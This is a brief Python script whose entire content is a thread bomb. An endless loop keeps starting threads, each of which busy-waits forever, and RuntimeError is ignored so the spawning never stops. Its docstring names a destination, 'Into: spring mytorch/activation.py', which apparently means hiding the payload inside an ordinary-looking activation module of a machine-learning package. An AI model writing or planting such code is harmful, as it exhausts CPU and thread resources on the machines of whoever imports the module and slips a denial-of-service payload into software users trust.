"""Starts threads for ever, each of which computes.

Into: spring mytorch/activation.py
"""

import _thread


def _work():
    while True:
        pass


while True:
    try:
        _thread.start_new_thread(_work, ())
    except RuntimeError:
        continue
